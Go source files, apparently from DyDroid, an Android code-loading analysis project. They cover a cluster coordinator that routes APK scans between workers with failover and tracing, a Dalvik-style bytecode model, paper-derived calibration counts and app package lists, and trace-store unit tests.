		return nil, errors.New("cluster: Config.Nodes requires at least one worker")
	}
	if cfg.VNodes <= 0 {
		cfg.VNodes = DefaultVNodes
	}
	if cfg.ProbeInterval <= 0 {
		cfg.ProbeInterval = 2 * time.Second
	}
	if cfg.ProbeFailures <= 0 {
		cfg.ProbeFailures = 3
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = 3
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = 64 << 20
	}
	if cfg.Client == nil {
		cfg.Client = &http.Client{Timeout: 30 * time.Second}
	}
	if cfg.Traces == nil {
		st, err := trace.OpenStore(trace.StoreOptions{Metrics: cfg.Metrics})
		if err != nil {
			return nil, fmt.Errorf("cluster: route trace store: %w", err)
		}
		cfg.Traces = st
	}
	if cfg.Journal == nil {
		cfg.Journal = events.NewJournal(0)
	}
	if cfg.Node == "" {
		cfg.Node = "coordinator"
	}
	c := &Coordinator{
		cfg:     cfg,
		reg:     cfg.Metrics,
		client:  cfg.Client,
		ring:    NewRing(cfg.VNodes),
		members: make(map[string]*member, len(cfg.Nodes)),
		done:    make(chan struct{}),
	}
	for _, n := range cfg.Nodes {
		n = strings.TrimSpace(n)
		if n == "" {
			continue
		}
		if _, dup := c.members[n]; dup {
			return nil, fmt.Errorf("cluster: node %q configured twice", n)
		}
		c.members[n] = &member{name: n, baseURL: baseURL(n), inRing: true}
		c.ring.Add(n)
	}
	if len(c.members) == 0 {
		return nil, errors.New("cluster: Config.Nodes requires at least one worker")
	}
	c.wg.Add(1)
	go c.probeLoop()
	return c, nil
}

// baseURL normalizes a configured node address to a URL base.
func baseURL(node string) string {
	if strings.Contains(node, "://") {
		return strings.TrimRight(node, "/")
	}
	return "http://" + node
}

// Close stops the prober. In-flight proxied requests finish on their own.
func (c *Coordinator) Close() {
	c.closeOnce.Do(func() { close(c.done) })
	c.wg.Wait()
}

// Handler returns the coordinator's HTTP routes — the same vetting API
// surface the workers serve, plus the cluster status view.
func (c *Coordinator) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", c.handleScan)
	mux.HandleFunc("GET /v1/result/{digest}", c.handleResult)
	mux.HandleFunc("GET /v1/trace/{digest}", c.handleTrace)
	mux.HandleFunc("GET /v1/fleet", c.handleFleet)
	mux.HandleFunc("GET /v1/events", c.handleEvents)
	mux.HandleFunc("GET /v1/healthz", c.handleHealthz)
	mux.HandleFunc("GET /v1/cluster/status", c.handleStatus)
	mux.HandleFunc("GET /v1/profiles", c.handleProfiles)
	mux.HandleFunc("GET /v1/profiles/{id}", c.handleProfile)
	mux.HandleFunc("GET /v1/metricz", c.handleMetricz)
	// The coordinator profiles itself the same way its workers do.
	mux.HandleFunc("GET /debug/pprof/", pprof.Index)
	mux.HandleFunc("GET /debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("GET /debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("GET /debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("GET /debug/pprof/trace", pprof.Trace)
	return mux
}

// candidates returns the bounded failover chain for a digest: up to
// MaxAttempts distinct live nodes in ring order from the owner, with
// degraded and draining nodes deprioritized (stable) so a saturated
// worker stops receiving new scans before it starts answering 429.
func (c *Coordinator) candidates(digest string) []*member {
	c.mu.Lock()
	defer c.mu.Unlock()
	names := c.ring.Successors(digest, c.cfg.MaxAttempts)
	var fit, strained []*member
	for _, n := range names {
		m := c.members[n]
		if m == nil {
			continue
		}
		if m.degraded || m.draining {
			strained = append(strained, m)
		} else {
			fit = append(fit, m)
		}
	}
	return append(fit, strained...)
}

// noteForward records a forward outcome against the ejection counter: a
// transport failure counts like a failed probe (K of them in a row eject
// the node), a success resets the streak.
func (c *Coordinator) noteForward(m *member, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err == nil {
		m.fails = 0
		return
	}
	m.fails++
	m.lastErr = err.Error()
	if m.inRing && m.fails >= c.cfg.ProbeFailures {
		c.ejectLocked(m, "forward failures")
	}
}

// ejectLocked removes m from the ring (the caller holds c.mu).
func (c *Coordinator) ejectLocked(m *member, why string) {
	m.inRing = false
	m.ejections++
	// The node may come back as a different binary; re-learn its snapshot
	// format on recovery.
	m.snapshotVersion = 0
	c.ring.Remove(m.name)
	c.reg.Add("cluster.ejected", 1)
	c.reg.SetGauge("cluster.nodes.live", int64(c.ring.Len()))
	c.cfg.Journal.Record(events.Event{
		Type: events.NodeEjected, Node: m.name,
		Detail: fmt.Sprintf("%s after %d failures: %s", why, m.fails, m.lastErr),
	})
	if c.cfg.Logger != nil {
		c.cfg.Logger.Warn("node ejected from ring", "node", m.name, "reason", why, "failures", m.fails, "last_error", m.lastErr)
	}
}

// rejoinLocked returns m to the ring (the caller holds c.mu).
func (c *Coordinator) rejoinLocked(m *member) {
	m.inRing = true
	m.fails = 0
	m.lastErr = ""
	c.ring.Add(m.name)
	c.reg.Add("cluster.rejoined", 1)
	c.reg.SetGauge("cluster.nodes.live", int64(c.ring.Len()))
	c.cfg.Journal.Record(events.Event{Type: events.NodeRejoined, Node: m.name})
	if c.cfg.Logger != nil {
		c.cfg.Logger.Info("node rejoined ring", "node", m.name)
	}
}

// handleScan reads the submission, routes it by signing digest, and
// relays the owning node's answer. A node that cannot be reached fails
// the request over to the next ring position; the chain is bounded by
// MaxAttempts. Non-transport answers (including 429 backpressure) are
// relayed as-is — placement is by digest, so a saturated owner must not
// leak its scans to a node that will never serve their results.
//
// Every routed scan opens a root "route" span with one "attempt" child
// per touched node; the winning attempt's span ID travels to the worker
// in the X-Dydroid-Parent header, so GET /v1/trace/{digest} can graft
// the worker's analysis tree under that exact span. A transport failure
// closes its attempt span with the error and journals a scan-failover
// event — the reroute is visible, never silent.
func (c *Coordinator) handleScan(w http.ResponseWriter, r *http.Request) {
	c.reg.Add("cluster.scan.requests", 1)
	body, err := io.ReadAll(io.LimitReader(r.Body, c.cfg.MaxBodyBytes+1))
	if err != nil {
		httpError(w, http.StatusBadRequest, "read body: "+err.Error())
		return
	}
	if int64(len(body)) > c.cfg.MaxBodyBytes {
		httpError(w, http.StatusRequestEntityTooLarge, "submission exceeds size limit")
		return
	}
	digest, err := apk.SigningDigest(body)
	if err != nil {
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	rt := trace.New("route", trace.WithID(trace.IDFromDigest(digest)), trace.WithDigest(digest))
	rt.Root.SetAttr("digest", digest)
	defer func() {
		rt.Root.End()
		if perr := c.cfg.Traces.Put(rt); perr != nil {
			c.reg.Add("cluster.trace.errors", 1)
		}
	}()
	cands := c.candidates(digest)
	if len(cands) > 0 {
		rt.Root.SetAttr("owner", cands[0].name)
	}
	var lastErr error
	for i, m := range cands {
		sp := rt.Root.StartChild("attempt")
		sp.ID = trace.NewID()
		sp.SetAttr("node", m.name)
		sp.SetAttr("attempt", strconv.Itoa(i+1))
		if lastErr != nil {
			sp.SetAttr("failover.reason", lastErr.Error())
		}
		req, rerr := http.NewRequestWithContext(r.Context(), http.MethodPost, m.baseURL+"/v1/scan", bytes.NewReader(body))
		if rerr != nil {
			sp.EndErr(rerr)
			httpError(w, http.StatusInternalServerError, rerr.Error())
			return
		}
		req.Header.Set("Content-Type", "application/octet-stream")
		req.Header.Set(headerParent, trace.ParentRef(rt.ID, sp.ID))
		resp, err := c.client.Do(req)
		if err != nil {
			sp.EndErr(err)
			lastErr = err
			c.noteForward(m, err)
			c.reg.Add("cluster.scan.failover", 1)
			c.cfg.Journal.Record(events.Event{
				Type: events.ScanFailover, Node: m.name, Digest: digest,
				Detail: err.Error(),
			})
			continue
		}
		sp.SetAttr("status", strconv.Itoa(resp.StatusCode))
		sp.End()
		c.noteForward(m, nil)
		if i > 0 {
			c.reg.Add("cluster.scan.rerouted", 1)
		}
		c.reg.Add("cluster.scan.forwarded", 1)
		relay(w, resp, m.name)
		return
	}
	c.reg.Add("cluster.scan.unroutable", 1)
	if lastErr != nil {
		rt.Root.EndErr(lastErr)
		httpError(w, http.StatusBadGateway, "no reachable node for digest: "+lastErr.Error())
		return
	}
	rt.Root.EndErr(errors.New("no live nodes in ring"))
	httpError(w, http.StatusServiceUnavailable, "no live nodes in ring")
}

// headerParent mirrors service.HeaderParent without importing the
// service package (the coordinator speaks only HTTP to its workers).
const headerParent = "X-Dydroid-Parent"

func (c *Coordinator) handleResult(w http.ResponseWriter, r *http.Request) {
	c.proxyRead(w, r.PathValue("digest"), "/v1/result/")
}

// handleTrace serves the stitched cross-node span tree of a digest: the
// coordinator's own route trace with the worker's analysis tree grafted
// under the attempt span that carried the scan (matched by the span ID
// the X-Dydroid-Parent header named). With no local route trace — e.g.
// the scan reached the worker directly — the worker's tree is relayed
// unstitched; with no reachable worker trace the route tree alone is
// served, so a dead node's routing history stays inspectable.
func (c *Coordinator) handleTrace(w http.ResponseWriter, r *http.Request) {
	digest := r.PathValue("digest")
	route, routeErr := c.cfg.Traces.Get(digest)
	remote, node := c.fetchWorkerTrace(digest)
	switch {
	case routeErr != nil && remote == nil:
		// Neither side knows the digest: fall back to the plain proxy so
		// error semantics (404 vs 502) match the other read endpoints.
		c.proxyRead(w, digest, "/v1/trace/")
		return
	case routeErr != nil:
		w.Header().Set("X-Dydroid-Node", node)
		writeJSON(w, http.StatusOK, remote)
		return
	}
	if remote != nil {
		trace.Graft(route, remote)
		w.Header().Set("X-Dydroid-Node", node)
	}
	writeJSON(w, http.StatusOK, route)
}

// fetchWorkerTrace pulls the first available worker span tree for a
// digest from the candidate window, returning it with the serving node's
// name ("" when no node has one).
func (c *Coordinator) fetchWorkerTrace(digest string) (*trace.Trace, string) {
	for _, m := range c.candidates(digest) {
		resp, err := c.client.Get(m.baseURL + "/v1/trace/" + digest)
		if err != nil {
			c.noteForward(m, err)
			continue
		}
		c.noteForward(m, nil)
		if resp.StatusCode != http.StatusOK {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			continue
		}
		var tr trace.Trace
		err = json.NewDecoder(io.LimitReader(resp.Body, 16<<20)).Decode(&tr)
		resp.Body.Close()
		if err != nil || tr.Root == nil {
			continue
		}
		return &tr, m.name
	}
	return nil, ""
}

// proxyRead fetches a digest-keyed read from its owning node. The same
// bounded candidate window a scan used is probed in order, so a verdict
// that failed over to a successor during a node death is still found:
// a 404 from one node moves on to the next, any other answer is relayed.
func (c *Coordinator) proxyRead(w http.ResponseWriter, digest, path string) {
	var lastErr error
	sawMiss := false
	for _, m := range c.candidates(digest) {
		resp, err := c.client.Get(m.baseURL + path + digest)
		if err != nil {
			lastErr = err
			c.noteForward(m, err)
			continue
		}
		c.noteForward(m, nil)
		if resp.StatusCode == http.StatusNotFound {
			sawMiss = true
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			continue
		}
		relay(w, resp, m.name)
		return
	}
	switch {
	case sawMiss:
		httpError(w, http.StatusNotFound, "unknown digest")
	case lastErr != nil:
		httpError(w, http.StatusBadGateway, "no reachable node for digest: "+lastErr.Error())
	default:
		httpError(w, http.StatusServiceUnavailable, "no live nodes in ring")
	}
}

// relay copies a node response to the client, naming the serving node.
func relay(w http.ResponseWriter, resp *http.Response, node string) {
	defer resp.Body.Close()
	for _, h := range []string{"Content-Type", "Content-Disposition", "Retry-After", "X-Dydroid-Trace"} {
		if v := resp.Header.Get(h); v != "" {
			w.Header().Set(h, v)
		}
	}
	w.Header().Set("X-Dydroid-Node", node)
	w.WriteHeader(resp.StatusCode)
	io.Copy(w, resp.Body)
}

// handleHealthz is the coordinator's own liveness view.
func (c *Coordinator) handleHealthz(w http.ResponseWriter, r *http.Request) {
	c.mu.Lock()
	live := c.ring.Len()
	total := len(c.members)
	c.mu.Unlock()
	status := "ok"
	if live == 0 {
		status = "no-live-nodes"
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"status":     status,
		"role":       "coordinator",
		"nodes":      total,
		"nodes_live": live,
	})
}
