// Package dex implements SDEX, a register-based Dalvik-style bytecode
// format used throughout DyDroid as the simulated equivalent of Android's
// DEX format.
//
// An SDEX file (conventionally named classes.dex inside an APK) holds a
// string pool and a set of class definitions. Each class has fields and
// methods; each method body is a linear sequence of register-machine
// instructions. The package provides:
//
//   - an in-memory object model (File, Class, Method, Field, Instruction),
//   - a deterministic binary encoding (Encode/Decode) with checksums,
//   - a smali-like textual disassembler (Disassemble) and assembler
//     (Assemble) that round-trip,
//   - a builder API for constructing classes programmatically,
//   - control-flow-graph extraction (BuildCFG) used by the MAIL translator
//     and the static taint analysis, and
//   - a DEX->ODEX optimizer (Optimize) mirroring dexopt.
//
// The format intentionally preserves the properties DyDroid's analyses
// depend on: symbolic method references (for API source/sink detection and
// DCL pre-filtering), const-string pools (for path and URL extraction),
// and branch instructions (for CFG and ACFG construction).
package dex

import (
	"fmt"
	"strings"
)

// AccessFlags describe the visibility and dispatch properties of classes,
// methods and fields. They mirror the subset of Dalvik access flags that
// the analyses consume.
type AccessFlags uint32

// Access flag bits.
const (
	ACCPublic    AccessFlags = 1 << 0
	ACCPrivate   AccessFlags = 1 << 1
	ACCProtected AccessFlags = 1 << 2
	ACCStatic    AccessFlags = 1 << 3
	ACCFinal     AccessFlags = 1 << 4
	ACCNative    AccessFlags = 1 << 8
	ACCInterface AccessFlags = 1 << 9
	ACCAbstract  AccessFlags = 1 << 10
	ACCSynthetic AccessFlags = 1 << 12
	ACCConstruct AccessFlags = 1 << 16
)

// String renders the flags in smali order.
func (f AccessFlags) String() string {
	var parts []string
	for _, e := range []struct {
		bit  AccessFlags
		name string
	}{
		{ACCPublic, "public"},
		{ACCPrivate, "private"},
		{ACCProtected, "protected"},
		{ACCStatic, "static"},
		{ACCFinal, "final"},
		{ACCNative, "native"},
		{ACCInterface, "interface"},
		{ACCAbstract, "abstract"},
		{ACCSynthetic, "synthetic"},
		{ACCConstruct, "constructor"},
	} {
		if f&e.bit != 0 {
			parts = append(parts, e.name)
		}
	}
	return strings.Join(parts, " ")
}

// MethodRef is a symbolic reference to a method: the defining class (in
// Java binary-name form, e.g. "dalvik.system.DexClassLoader"), the method
// name, and the descriptor signature.
type MethodRef struct {
	Class string // Java binary name of the defining class
	Name  string // method name, "<init>" for constructors
	Sig   string // descriptor, e.g. "(Ljava/lang/String;)V"
}

// String renders the reference in smali call-site form.
func (r MethodRef) String() string {
	return JavaToDesc(r.Class) + "->" + r.Name + r.Sig
}

// FieldRef is a symbolic reference to a field.
type FieldRef struct {
	Class string // Java binary name of the defining class
	Name  string // field name
	Type  string // type descriptor, e.g. "Ljava/lang/String;"
}

// String renders the reference in smali field form.
func (r FieldRef) String() string {
	return JavaToDesc(r.Class) + "->" + r.Name + ":" + r.Type
}

// File is one SDEX file: a set of classes sharing a string pool. The
// string pool is materialized during encoding; the object model keeps
// strings inline for ease of construction and analysis.
type File struct {
	// Classes in definition order. Order is preserved by encode/decode.
	Classes []*Class
}

// Class is a single class definition.
type Class struct {
	Name       string // Java binary name, e.g. "com.example.Main"
	Super      string // Java binary name of the superclass
	Interfaces []string
	Flags      AccessFlags
	SourceFile string
	Fields     []*Field
	Methods    []*Method
}

// Field is a field definition.
type Field struct {
	Name  string
	Type  string // type descriptor
	Flags AccessFlags
}

// Method is a method definition with its code body. Native and abstract
// methods have no code.
type Method struct {
	Name      string
	Params    []string // parameter type descriptors
	Return    string   // return type descriptor
	Flags     AccessFlags
	Registers int // number of registers the body uses
	Code      []Instruction
}

// Ref returns the symbolic reference identifying m within class c.
func (m *Method) Ref(c *Class) MethodRef {
	return MethodRef{Class: c.Name, Name: m.Name, Sig: m.Descriptor()}
}

// Descriptor renders the method signature descriptor, e.g.
// "(Ljava/lang/String;I)V".
func (m *Method) Descriptor() string {
	var b strings.Builder
	b.WriteByte('(')
	for _, p := range m.Params {
		b.WriteString(p)
	}
	b.WriteByte(')')
	b.WriteString(m.Return)
	return b.String()
}

// FindClass returns the class with the given Java binary name, or nil.
func (f *File) FindClass(name string) *Class {
	for _, c := range f.Classes {
		if c.Name == name {
			return c
		}
	}
	return nil
}

// FindMethod returns the method with the given name and descriptor, or nil.
// An empty descriptor matches the first method with the name.
func (c *Class) FindMethod(name, sig string) *Method {
	for _, m := range c.Methods {
		if m.Name == name && (sig == "" || m.Descriptor() == sig) {
			return m
		}
	}
	return nil
}

// FindField returns the field with the given name, or nil.
func (c *Class) FindField(name string) *Field {
	for _, fl := range c.Fields {
		if fl.Name == name {
			return fl
		}
	}
	return nil
}

// Package returns the Java package of the class ("" for the default
// package).
func (c *Class) Package() string {
	if i := strings.LastIndex(c.Name, "."); i >= 0 {
		return c.Name[:i]
	}
	return ""
}

// JavaToDesc converts a Java binary name to a type descriptor:
// "com.example.Main" -> "Lcom/example/Main;".
func JavaToDesc(name string) string {
	return "L" + strings.ReplaceAll(name, ".", "/") + ";"
}

// DescToJava converts a class type descriptor back to a Java binary name.
// Non-class descriptors are returned unchanged.
func DescToJava(desc string) string {
	if strings.HasPrefix(desc, "L") && strings.HasSuffix(desc, ";") {
		return strings.ReplaceAll(desc[1:len(desc)-1], "/", ".")
	}
	return desc
}

// MethodCount returns the total number of method definitions in the file.
func (f *File) MethodCount() int {
	n := 0
	for _, c := range f.Classes {
		n += len(c.Methods)
	}
	return n
}

// Strings returns every string literal referenced by const-string
// instructions across the file, in encounter order without duplicates.
// The DCL pre-filter and the obfuscation rules consume this.
func (f *File) Strings() []string {
	seen := make(map[string]bool)
	var out []string
	for _, c := range f.Classes {
		for _, m := range c.Methods {
			for i := range m.Code {
				in := &m.Code[i]
				if in.Op == OpConstString && !seen[in.Str] {
					seen[in.Str] = true
					out = append(out, in.Str)
				}
			}
		}
	}
	return out
}

// InvokedRefs returns every method reference invoked anywhere in the file,
// in encounter order without duplicates.
func (f *File) InvokedRefs() []MethodRef {
	seen := make(map[MethodRef]bool)
	var out []MethodRef
	for _, c := range f.Classes {
		for _, m := range c.Methods {
			for i := range m.Code {
				in := &m.Code[i]
				if in.Op.IsInvoke() && !seen[in.Method] {
					seen[in.Method] = true
					out = append(out, in.Method)
				}
			}
		}
	}
	return out
}

// Validate performs structural sanity checks: branch targets in range,
// register indices within the declared register count, and non-empty
// names. It returns the first problem found.
func (f *File) Validate() error {
	// One scratch slice and pointer-indexed loops: Validate runs on every
	// Encode and Decode, so it must not copy or allocate per instruction.
	var scratch []int
	for _, c := range f.Classes {
		if c.Name == "" {
			return fmt.Errorf("dex: class with empty name")
		}
		for _, m := range c.Methods {
			if m.Name == "" {
				return fmt.Errorf("dex: %s: method with empty name", c.Name)
			}
			for pc := range m.Code {
				in := &m.Code[pc]
				if in.Op.IsBranch() {
					if in.Target < 0 || in.Target >= len(m.Code) {
						return fmt.Errorf("dex: %s.%s: pc %d: branch target %d out of range [0,%d)",
							c.Name, m.Name, pc, in.Target, len(m.Code))
					}
				}
				scratch = in.appendRegistersUsed(scratch[:0])
				for _, r := range scratch {
					if r < 0 || r >= m.Registers {
						return fmt.Errorf("dex: %s.%s: pc %d: register v%d out of range [0,%d)",
							c.Name, m.Name, pc, r, m.Registers)
					}
				}
			}
		}
	}
	return nil
}
