package corpus

import "math"

// PaperCounts holds every calibration constant from the paper's
// measurement (Tables II-X). The generator plants ground truth at these
// rates; the pipeline re-measures them.
type PaperCounts struct {
	Total int // 58,739 crawled apps

	// Table II, DEX side.
	DexCandidates      int // 40,849 apps with class-loader code in the IR
	DexRewriteFailures int // 454
	DexNoActivity      int // 8
	DexCrashes         int // 33
	DexIntercepted     int // 16,768

	// Table II, native side.
	NativeCandidates      int // 25,287
	NativeRewriteFailures int // 133
	NativeNoActivity      int // 13
	NativeCrashes         int // 184
	NativeIntercepted     int // 13,748

	// §V-A: 46K apps have DCL operations; 54 fail decompilation.
	UnionCandidates int // 46,000
	AntiDecompile   int // 54

	// §V-B: ad-library interceptions and the Baidu remote fetchers.
	AdApps     int // 15,012 apps loading Google-Ads-style binaries
	RemoteApps int // 27 (Table V)

	// Table IV entity splits (own-only / both derived from the rows).
	DexOwnOnly    int // 13 (50 own - 37 both)
	DexBoth       int // 37
	NativeOwnOnly int // 1,914 (2,280 - 366)
	NativeBoth    int // 366
	// Table VI.
	Lexical    int // 52,836
	Reflection int // 30,664
	Packed     int // 140
	// Table VII.
	SwissApps    int // 1
	AdwareApps   int // 2
	ChathookApps int // 84
	MalwareFiles int // 91
	// Table VIII (files NOT loaded under each configuration).
	GateTime     int // 19 (91-72)
	GateAirplane int // 35 (91-56)
	GateConn     int // 3  (91-53-35)
	GateLocation int // 21 (91-70)
	// Table IX.
	VulnDexExternal  int // 7
	VulnNativeIntern int // 7
	// Table X: apps reading settings beyond the ad library.
	SettingsReaders int // 16,482 - 15,012 = 1,470
	OwnSettings     int // 16,482 - 16,441 = 41
}

// Paper returns the full-scale calibration constants.
func Paper() PaperCounts {
	return PaperCounts{
		Total:                 58739,
		DexCandidates:         40849,
		DexRewriteFailures:    454,
		DexNoActivity:         8,
		DexCrashes:            33,
		DexIntercepted:        16768,
		NativeCandidates:      25287,
		NativeRewriteFailures: 133,
		NativeNoActivity:      13,
		NativeCrashes:         184,
		NativeIntercepted:     13748,
		UnionCandidates:       46000,
		AntiDecompile:         54,
		AdApps:                15012,
		RemoteApps:            27,
		DexOwnOnly:            13,
		DexBoth:               37,
		NativeOwnOnly:         1914,
		NativeBoth:            366,
		Lexical:               52836,
		Reflection:            30664,
		Packed:                140,
		SwissApps:             1,
		AdwareApps:            2,
		ChathookApps:          84,
		MalwareFiles:          91,
		GateTime:              19,
		GateAirplane:          35,
		GateConn:              3,
		GateLocation:          21,
		VulnDexExternal:       7,
		VulnNativeIntern:      7,
		SettingsReaders:       1470,
		OwnSettings:           41,
	}
}

// TableXTypes lists the Table X rows: data type name, total apps, and the
// exclusively-third-party count, paper order. Settings is handled
// separately (ad apps + SettingsReaders).
type TableXRow struct {
	Type      string
	Apps      int
	Exclusive int
}

// TableX holds the per-type privacy counts of Table X (Settings excluded;
// see PaperCounts.SettingsReaders).
var TableX = []TableXRow{
	{"Location", 254, 251},
	{"IMEI", 581, 576},
	{"IMSI", 27, 25},
	{"ICCID", 8, 6},
	{"Phone number", 12, 10},
	{"Account", 23, 23},
	{"Installed applications", 32, 28},
	{"Installed packages", 235, 231},
	{"Contact", 1, 1},
	{"Calendar", 76, 73},
	{"CallLog", 32, 32},
	{"Browser", 1, 1},
	{"Audio", 5, 5},
	{"Image", 74, 72},
	{"Video", 31, 31},
	{"MMS", 1, 1},
	{"SMS", 1, 1},
}

// PackerCategories is the Figure 3 shape: DEX-encryption apps per store
// category, Entertainment/Tools/Shopping dominant. The counts sum to the
// Packed total (140).
var PackerCategories = []struct {
	Category string
	Apps     int
}{
	{"Entertainment", 38},
	{"Tools", 30},
	{"Shopping", 24},
	{"Games", 8},
	{"Finance", 8},
	{"Productivity", 7},
	{"Social", 6},
	{"Communication", 5},
	{"Education", 4},
	{"Music", 3},
	{"Photography", 3},
	{"Travel", 2},
	{"News", 2},
}

// RemotePackages are the 27 Table V package names.
var RemotePackages = []string{
	"com.ipeaksoft.pitDadGame", "com.xy.mobile.shaketoflashlight",
	"org.madgame.Idom", "com.yb.sex.cartoon5",
	"com.jianhui.FJDazhan", "com.quwenba.i9300manual",
	"com.rhino.itruthdare", "com.xiangqi.fanapp.a1521",
	"com.huijia.moyan", "org.mfactory.three.bubble",
	"com.huijia.zuoqingwen", "apps.simple.recipe",
	"com.xiangqi.fanapp.a1284", "com.ioteam.numbertest",
	"com.avpig.acc", "air.com.qqqf.xxywszzy2a",
	"com.seven.chuanyueqinggong", "com.game.knyds",
	"air.com.qqqf.xxnjyybdc123456", "com.seven.tiancantudou",
	"com.conpany.smile.ui", "com.classicalmuseumad.cnad",
	"com.seven.chuanyuegongting", "com.seven.mengrushenj",
	"com.nexusgame.popbirds", "com.XTWorks.lolsol",
	"com.Long.ButtonsShowAndroid",
}

// VulnDexPackages are the Table IX external-storage DEX loaders.
var VulnDexPackages = []string{
	"com.longtukorea.snmg", "com.felink.android.launcher91",
	"com.ycgame.cf1en.gpiap", "com.fitfun.cubizone.love",
	"com.fkccy.view", "com.trustlook.fakeiddetector",
	"com.leduo.endcallsms",
}

// VulnNativePackages are the Table IX other-app-internal native loaders;
// the first six load Adobe AIR's libCore.so, the last loads the
// Devicescape offloader library.
var VulnNativePackages = []string{
	"com.devicescape.usc.wifinow", "com.renren.and02506",
	"air.air.com.hi4o.game.Subway_Rushers", "air.com.fire.ane.test.bubblecrazy",
	"com.renren.wan.war", "air.com.fire.ane.test.ANETest",
	"com.moeapps",
}

// MalwareSamplePackages are the Table VII sample apps.
const (
	SwissPackage    = "com.sktelecom.hoppin.mobile"
	AdwarePackage   = "com.oshare.app"
	ChathookPackage = "com.com2us.tinyfarm.normal.freefull.google.global.android.common"
)

// Companion package names pre-installed on every analysis device.
const (
	AdobeAirPackage    = "com.adobe.air"
	DevicescapePackage = "com.devicescape.offloader"
	QQPackage          = "com.tencent.mobileqq"
	WeChatPackage      = "com.tencent.mm"
)

// Categories is the 42-category store taxonomy (§V-A).
var Categories = []string{
	"Books", "Business", "Comics", "Communication", "Education",
	"Entertainment", "Finance", "Games", "Health", "Libraries",
	"Lifestyle", "Media", "Medical", "Music", "News", "Personalization",
	"Photography", "Productivity", "Shopping", "Social", "Sports",
	"Tools", "Transportation", "Travel", "Weather", "Widgets",
	"Action", "Adventure", "Arcade", "Board", "Card", "Casino",
	"Casual", "Puzzle", "Racing", "RolePlaying", "Simulation",
	"Strategy", "Trivia", "Word", "Family", "Events",
}

// Scaled scales a full-scale count by the configured factor, rounding to
// nearest, and keeps non-zero counts alive at small scales (a planted
// singleton like the Swiss-code-monkeys app must survive scaling).
func Scaled(n int, scale float64) int {
	if n == 0 || scale <= 0 {
		return 0
	}
	if scale >= 1 {
		return n
	}
	s := int(math.Round(float64(n) * scale))
	if s == 0 {
		s = 1
	}
	return s
}
