package trace

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/metrics"
)

func storedTrace(digest string) *Trace {
	tr := New("app", WithID(digest+"ffffffffffffffff"), WithDigest(digest))
	tr.Root.End()
	return tr
}

// digests produces valid lowercase-hex store keys: "a0", "a1", ...
func testDigest(i int) string { return fmt.Sprintf("a%x", i) }

func TestStoreMemoryPutGet(t *testing.T) {
	s, err := OpenStore(StoreOptions{Cap: 4})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Get("ab"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("get of empty store = %v, want ErrNotFound", err)
	}
	tr := storedTrace("ab12cd34")
	if err := s.Put(tr); err != nil {
		t.Fatal(err)
	}
	got, err := s.Get("ab12cd34")
	if err != nil {
		t.Fatal(err)
	}
	if got.ID != tr.ID || got.Root == nil || got.Root.Name != "app" {
		t.Fatalf("round trip lost data: %+v", got)
	}
	raw, err := s.GetRaw("ab12cd34")
	if err != nil || len(raw) == 0 {
		t.Fatalf("GetRaw = (%d bytes, %v)", len(raw), err)
	}

	if err := s.Put(&Trace{Digest: "NOT-HEX", Root: &Span{Name: "x"}}); err == nil {
		t.Fatal("want error for invalid digest")
	}
	if err := s.Put(nil); err == nil {
		t.Fatal("want error for nil trace")
	}
}

func TestStoreEvictsLeastRecentlyUsed(t *testing.T) {
	s, err := OpenStore(StoreOptions{Cap: 3})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := s.Put(storedTrace(testDigest(i))); err != nil {
			t.Fatal(err)
		}
	}
	// Touch a0 so a1 becomes the eviction victim.
	if _, err := s.Get(testDigest(0)); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(storedTrace(testDigest(3))); err != nil {
		t.Fatal(err)
	}
	if s.Len() != 3 {
		t.Fatalf("len = %d, want cap 3", s.Len())
	}
	if _, err := s.Get(testDigest(1)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("a1 should have been evicted, got %v", err)
	}
	for _, d := range []string{testDigest(0), testDigest(2), testDigest(3)} {
		if _, err := s.Get(d); err != nil {
			t.Fatalf("%s should survive: %v", d, err)
		}
	}
}

func TestStoreDiskPersistsAndReloads(t *testing.T) {
	dir := t.TempDir()
	s, err := OpenStore(StoreOptions{Dir: dir, Cap: 8})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := s.Put(storedTrace(testDigest(i))); err != nil {
			t.Fatal(err)
		}
		// Distinct mtimes so the reload order is deterministic even on
		// coarse filesystem clocks.
		past := time.Now().Add(time.Duration(i-10) * time.Second)
		if err := os.Chtimes(filepath.Join(dir, testDigest(i)+".json"), past, past); err != nil {
			t.Fatal(err)
		}
	}
	// Garbage files are skipped on reload, never fatal.
	os.WriteFile(filepath.Join(dir, "ff.json"), []byte("not json"), 0o644)
	os.WriteFile(filepath.Join(dir, "README.txt"), []byte("hi"), 0o644)

	re, err := OpenStore(StoreOptions{Dir: dir, Cap: 2})
	if err != nil {
		t.Fatal(err)
	}
	// Cap 2 on reload of 3 traces evicts the oldest (a0).
	if re.Len() != 2 {
		t.Fatalf("reloaded len = %d, want 2", re.Len())
	}
	if _, err := re.Get(testDigest(0)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("oldest trace should be evicted on reload, got %v", err)
	}
	got, err := re.Get(testDigest(2))
	if err != nil || got.Digest != testDigest(2) {
		t.Fatalf("reload lost newest trace: %v %v", got, err)
	}
	// Eviction removed the file, not just the entry.
	if _, err := os.Stat(filepath.Join(dir, testDigest(0)+".json")); !os.IsNotExist(err) {
		t.Fatalf("evicted trace file should be deleted, stat err = %v", err)
	}
}

func TestStoreConcurrentAccess(t *testing.T) {
	s, err := OpenStore(StoreOptions{Cap: 8})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
